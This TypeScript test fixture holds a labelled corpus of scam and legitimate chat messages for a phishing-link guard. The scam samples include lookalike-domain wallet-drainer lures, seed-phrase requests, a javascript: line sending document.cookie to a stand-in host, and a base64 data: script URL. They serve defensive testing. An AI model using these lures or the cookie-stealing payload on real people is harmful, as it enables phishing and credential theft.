import { domainToASCII } from 'node:url';
import type { GuardConfigInput } from '../src/index.ts';

/**
 * A labelled corpus of chat messages for the scam-link guard, shaped after real lures (fake
 * migration portals, airdrop claims, wallet "validation", fake support in DMs) and after
 * ordinary messages with official and third-party links. `scam` means a person who saw it
 * should be warned; `legit` means a warning would be a false alarm.
 */
export interface Sample {
  label: 'scam' | 'legit';
  text: string;
  /** What makes it a scam (or what could fool the guard into a false alarm). */
  why: string;
}

/** The workspace the corpus is written for: Parley itself, whose users also use MetaMask. */
export const CORPUS_CONFIG: GuardConfigInput = {
  canonicalDomains: ['parley.dev', 'parley.chat', 'metamask.io'],
  brandTokens: ['parley', 'metamask'],
  blocklist: ['parley-support.help'],
  canonicalLinks: [
    { label: 'migration', url: 'https://parley.dev/migrate' },
    { label: 'docs', url: 'https://docs.parley.dev' },
    { label: 'support', url: 'https://parley.chat/support' },
    // Its own pages on shared platforms: each covers its path only (issue #30), and a brand in
    // a handle that is not listed here warns.
    { label: 'code', url: 'https://github.com/parley-dev' },
    { label: 'package', url: 'https://www.npmjs.com/package/@parley/core' },
    { label: 'discord', url: 'https://discord.gg/parley' },
  ],
};

/** The ASCII (punycode) form of a Unicode host, as a scammer registers it. */
const puny = (host: string) => domainToASCII(host);

export const CORPUS: Sample[] = [
  // Lookalike domains: brand with extra words, homoglyphs, typos, other suffixes.
  {
    label: 'scam',
    why: 'brand + word, wallet migration, urgency',
    text: '🚨 Parley V2 migration is live! Migrate your wallet now at https://parley-migration.com before the snapshot closes within 2 hours',
  },
  {
    label: 'scam',
    why: 'brand + word, airdrop',
    text: 'Claim your PARLEY airdrop: https://claim-parley.xyz/airdrop',
  },
  {
    label: 'scam',
    why: 'Cyrillic а in the brand',
    text: 'Official migration portal: https://pаrley.dev/migrate',
  },
  {
    label: 'scam',
    why: 'punycode of a Cyrillic homograph',
    text: `New official domain, bookmark it: https://${puny('pаrlеy.dev')}/migrate`,
  },
  { label: 'scam', why: 'capital I for l', text: 'Visit parIey.dev/claim to get your tokens' },
  {
    label: 'scam',
    why: 'capital I for l on the chat domain',
    text: 'Official invite: https://parIey.chat/invite',
  },
  {
    label: 'scam',
    why: 'rn for m',
    text: 'https://rnetamask.io/ connect your wallet to receive the airdrop',
  },
  {
    label: 'scam',
    why: 'swapped letters',
    text: 'MetaMask is down, use the backup at metamsak.io and reconnect',
  },
  {
    label: 'scam',
    why: 'doubled letter',
    text: 'parley.dev/migrate is slow right now, use parlley.dev/migrate instead',
  },
  {
    label: 'scam',
    why: 'brand under another suffix, airdrop',
    text: 'Airdrop round 2 is open: https://parley.app/airdrop',
  },
  {
    label: 'scam',
    why: 'brand + word, urgency',
    text: 'Migration deadline is today, last chance! https://parley-v2.com',
  },
  {
    label: 'scam',
    why: 'brand glued to a word, DM',
    text: 'Check your DMs, our admin sent you the migration link: https://parleymigrate.org',
  },
  {
    label: 'scam',
    why: 'brand in a subdomain of another domain',
    text: 'Snapshot portal: parley.dev.secure-claim.net/migrate',
  },
  {
    label: 'scam',
    why: 'brand in a subdomain, wallet action',
    text: 'Parley snapshot: connect your wallet at https://parley.dev.claims-portal.io',
  },
  {
    label: 'scam',
    why: 'another brand + ours',
    text: 'Import your wallet at https://pancakeswap-parley.finance to keep your rewards',
  },
  {
    label: 'scam',
    why: 'fullwidth letters (IDNA maps them to ASCII)',
    text: 'ｐａｒｌｅｙ-airdrop.com is giving away tokens',
  },
  {
    label: 'scam',
    why: 'Greek ο in metamask',
    text: 'Verify your wallet at https://metamask-suppοrt.com/verify',
  },
  {
    label: 'scam',
    why: 'brand + word for the other brand',
    text: 'Metamask users: verify your wallet at https://metamask-verify.co',
  },
  { label: 'scam', why: 'digit 1 for l', text: 'Claim now at https://par1ey.dev/claim' },
  {
    label: 'scam',
    why: 'digit 0 and brand suffix',
    text: 'Rewards are waiting: https://parley-rewards.net/claim?id=0x12',
  },
  {
    label: 'scam',
    why: 'whole-label Cyrillic lookalike of metamask',
    text: `Bookmark the new wallet site ${puny('metаmаsk.com')}`,
  },
  // Link text that hides its target.
  {
    label: 'scam',
    why: 'markdown text shows the official link',
    text: 'Migrate here: [https://parley.dev/migrate](https://parley-dev.app/migrate)',
  },
  {
    label: 'scam',
    why: 'anchor text shows docs, target elsewhere',
    text: 'Read the steps: <a href="https://secure-parley.io/connect">docs.parley.dev</a>',
  },
  {
    label: 'scam',
    why: 'anchor to a drainer showing the chat domain',
    text: "<a href='https://drainer.example/claim'>https://parley.chat/rewards</a>",
  },
  {
    label: 'scam',
    why: 'markdown text shows an unrelated domain',
    text: 'Your ticket: [support.zendesk.com/ticket/4411](https://helpdesk-tickets.top/4411)',
  },
  // User-info tricks.
  {
    label: 'scam',
    why: 'official domain as user name',
    text: 'Migration: https://parley.dev@wallet-sync.pro/migrate',
  },
  {
    label: 'scam',
    why: 'encoded slash in the user name',
    text: 'https://parley.dev%2Fmigrate@evil.example/start',
  },
  // Shorteners.
  {
    label: 'scam',
    why: 'shortener, wallet validation',
    text: 'Support ticket opened, validate your wallet: bit.ly/parley-support',
  },
  {
    label: 'scam',
    why: 'shortener, funds frozen',
    text: 'Your tokens will be frozen! Sync your wallet at https://tinyurl.com/pl3ymigrate',
  },
  {
    label: 'scam',
    why: 'shortener, free tokens',
    text: 'Free PARLEY tokens for early users → https://t.co/Ab12Cd34',
  },
  // IP literals, dangerous schemes, lists.
  {
    label: 'scam',
    why: 'IP literal, claim',
    text: 'Claim your reward: http://185.212.47.9/parley/claim',
  },
  { label: 'scam', why: 'hex IP literal', text: 'Wallet checker: http://0x7f000001/wallet' },
  {
    label: 'scam',
    why: 'javascript: link',
    text: "Paste this in the address bar: javascript:fetch('//x.example?c='+document.cookie)",
  },
  {
    label: 'scam',
    why: 'data: URL behind markdown',
    text: '[Click to verify](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  {
    label: 'scam',
    why: "on the workspace's blocklist",
    text: 'Go to https://parley-support.help and open a ticket',
  },
  {
    label: 'scam',
    why: 'bundled known-bad (punycode homograph)',
    text: 'Log in at https://xn--pypal-4ve.com/login to receive the payment',
  },
  // Lures with unknown links or none.
  {
    label: 'scam',
    why: 'seed phrase request with an unknown link',
    text: 'Enter your 12-word recovery phrase at https://walletconnect-sync.net to finish the migration',
  },
  {
    label: 'scam',
    why: 'urgency + account action, unknown link',
    text: 'Urgent: your account will be suspended, reactivate your wallet: https://secure-login.example.com',
  },
  {
    label: 'scam',
    why: 'fake support asking for a seed phrase in DM',
    text: "Hi, I'm from Parley support. DM me your seed phrase and I'll fix your migration immediately",
  },
  {
    label: 'scam',
    why: 'fake support hiding behind the official link',
    text: 'Support here. Official site is https://parley.dev, but to finish the migration send me your recovery phrase in DM, urgent',
  },
  {
    label: 'scam',
    why: 'airdrop eligibility with an unknown link',
    text: 'Congrats, you are eligible for the community drop. Claim your share: https://community-drop.site',
  },
];

export const LEGIT: Sample[] = [
  {
    label: 'legit',
    why: 'canonical link',
    text: 'The migration guide is at https://parley.dev/migrate',
  },
  {
    label: 'legit',
    why: 'canonical subdomain',
    text: 'Docs: https://docs.parley.dev/getting-started',
  },
  {
    label: 'legit',
    why: 'bare canonical subdomain',
    text: 'Status page: status.parley.dev, all systems operational',
  },
  {
    label: 'legit',
    why: 'markdown with official target',
    text: '[Migration guide](https://parley.dev/migrate)',
  },
  {
    label: 'legit',
    why: 'anchor with official target',
    text: '<a href="https://parley.chat/invite">Join our chat</a>',
  },
  { label: 'legit', why: 'wallet question, no link', text: 'How do I migrate my wallet to v2?' },
  {
    label: 'legit',
    why: 'seed phrase advice + canonical link',
    text: 'Never share your seed phrase. The only official link is https://parley.dev/migrate',
  },
  {
    label: 'legit',
    why: 'airdrop FAQ on the official site',
    text: 'Airdrop FAQ: https://parley.dev/faq#airdrop (we never DM first)',
  },
  {
    label: 'legit',
    why: 'urgency with an official link',
    text: 'Release notes at https://parley.dev/changelog. Upgrade now, the old API expires in 30 days!',
  },
  {
    label: 'legit',
    why: 'official support link, no DMs',
    text: "Use https://parley.chat/support for help, and please don't DM anyone",
  },
  {
    label: 'legit',
    why: "the other brand's official site",
    text: 'Install MetaMask from https://metamask.io/download',
  },
  {
    label: 'legit',
    why: 'markdown text equals target',
    text: 'See [docs.parley.dev](https://docs.parley.dev/agents)',
  },
  {
    label: 'legit',
    why: 'code host with the brand in the path',
    text: 'Our code is on https://github.com/parley-dev/parley',
  },
  {
    label: 'legit',
    why: 'encyclopedia',
    text: 'I read https://en.wikipedia.org/wiki/Phishing about this',
  },
  {
    label: 'legit',
    why: 'package registry',
    text: 'See https://www.npmjs.com/package/@parley/core for the versions',
  },
  {
    label: 'legit',
    why: 'wallet education site',
    text: 'Check https://ethereum.org/en/wallets/ for wallet basics',
  },
  {
    label: 'legit',
    why: 'standards',
    text: 'security.txt is RFC 9116: https://www.rfc-editor.org/rfc/rfc9116',
  },
  {
    label: 'legit',
    why: 'meeting link',
    text: 'Meet at https://meet.google.com/abc-defg-hij at 3pm',
  },
  { label: 'legit', why: 'news site', text: 'Weather looks bad: https://www.bbc.com/weather' },
  {
    label: 'legit',
    why: 'email and file names are not links',
    text: 'My email is ana@example.com; the file is notes.txt',
  },
  {
    label: 'legit',
    why: 'command line, no link',
    text: 'Try `npm install @parley/cli` then run parley init',
  },
  {
    label: 'legit',
    why: 'price site',
    text: 'Price chart: https://www.coingecko.com/en/coins/ethereum',
  },
  { label: 'legit', why: 'legitimate IDN', text: 'https://münchen.de has the event schedule' },
  {
    label: 'legit',
    why: 'canonical blog with a time',
    text: 'The snapshot happens within 24 hours, details on https://parley.dev/blog/snapshot',
  },
  {
    label: 'legit',
    why: 'docs with dots in the path',
    text: 'Python docs https://docs.python.org/3/library/urllib.parse.html',
  },
  {
    label: 'legit',
    why: 'video with a query',
    text: 'Video https://www.youtube.com/watch?v=dQw4w9WgXcQ',
  },
  {
    label: 'legit',
    why: 'Q&A site',
    text: 'This answer helped: https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster',
  },
  {
    label: 'legit',
    why: 'a real word near the brand, no link',
    text: 'I bet on a parlay last night lol',
  },
  { label: 'legit', why: 'Unicode report', text: 'Reference: https://unicode.org/reports/tr39/' },
  {
    label: 'legit',
    why: 'chat invite on a third-party host',
    text: 'Our Discord is https://discord.gg/parley',
  },
  { label: 'legit', why: 'preprint', text: 'Here is the paper: https://arxiv.org/abs/2401.00001' },
  {
    label: 'legit',
    why: 'markdown docs link',
    text: 'Read [the Rust book](https://doc.rust-lang.org/book/) first',
  },
  {
    label: 'legit',
    why: 'a URL in parentheses',
    text: 'The spec (https://url.spec.whatwg.org/#host-parsing) explains hosts.',
  },
  {
    label: 'legit',
    why: 'several official links',
    text: 'Docs: docs.parley.dev, chat: parley.chat, migration: https://parley.dev/migrate',
  },
  // Hard cases: real organisations whose names are close to the brand (expected false alarms).
  {
    label: 'legit',
    why: 'another organisation named Parley, under another suffix',
    text: 'Parley for the Oceans runs beach cleanups: https://www.parley.tv',
  },
  {
    label: 'legit',
    why: 'a real word one letter from the brand',
    text: 'The odds calculator on https://www.parlay.com is handy',
  },
  {
    label: 'legit',
    why: 'a question about a scam, with the official link',
    text: 'Someone DMed me about an airdrop, is https://parley.dev/airdrop real?',
  },
];
